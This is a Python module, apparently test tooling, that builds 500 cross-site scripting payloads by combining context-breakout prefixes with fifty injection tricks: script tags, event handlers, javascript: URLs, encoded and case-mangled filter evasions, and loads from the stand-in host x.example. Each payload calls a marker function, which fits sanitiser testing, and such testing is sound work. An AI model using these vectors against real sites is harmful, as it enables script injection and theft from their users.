"""
Five hundred texts that try to be more than text: each way out of where a text stands,
with each way to run something there. What runs calls ``ran`` with the text's number, or
asks another host for something.
"""

#: Out of a text, an attribute, a comment, an element whose content is text, a template.
WAYS_OUT = (
    "",
    '">',
    "'>",
    "-->",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "]]>",
    "{{7*7}}",
)
TRICKS = (
    "<script>{run}</script>",
    "<ScRiPt >{run}</sCrIpT >",
    "<script/x>{run}</script>",
    "<script\t>{run}</script>",
    "<scr<script>ipt>{run}</script>",
    "<script src=//x.example/{n}.js></script>",
    "<script src=data:text/javascript,{run}></script>",
    "<script type=module>{run}</script>",
    "<img src=x onerror={run}>",
    "<img src=x onerror='{run}'>",
    '<img src="x" onerror="{run}">',
    "<img/src=x/onerror={run}>",
    "<IMG SRC=x OnErRoR={run}>",
    "<img src=//x.example/{n}.png>",
    "<img src=x:{n} onerror=eval(`{run}`)>",
    "<image src=x onerror={run}>",
    "<svg onload={run}>",
    "<svg/onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{run}><text y=9>a</text></a>",
    "<math><mtext><img src=x onerror={run}></math>",
    "<body onload={run}>",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src=//x.example/{n}></iframe>",
    "<iframe onload={run}></iframe>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<a href=javascript:{run}>a</a>",
    "<a href='java\tscript:{run}'>a</a>",
    "<a href=&#106;avascript:{run}>a</a>",
    "<form action=javascript:{run}><button>a</form>",
    "<button formaction=javascript:{run}>a</button>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>",
    "<details open ontoggle={run}>a</details>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}></audio>",
    "<marquee onstart={run}>a</marquee>",
    "<style>@import '//x.example/{n}.css'</style>",
    "<link rel=stylesheet href=//x.example/{n}.css>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href=//x.example/{n}/>",
    " onmouseover={run} onfocus={run} autofocus tabindex=0 ",
    "' onfocus='{run}' autofocus='",
    '" onfocus="{run}" autofocus="',
    "&lt;script&gt;{run}&lt;/script&gt;",
    "\\x3cscript\\x3e{run}\\x3c/script\\x3e",
    "%3Cscript%3E{run}%3C/script%3E",
)


def payloads():
    """Return the texts, each with a number of its own, none longer than 100 characters."""
    made = []
    for way in WAYS_OUT:
        for trick in TRICKS:
            n = len(made)
            made.append(
                way + trick.replace("{run}", f"ran({n})").replace("{n}", f"{n}")
            )
    return made
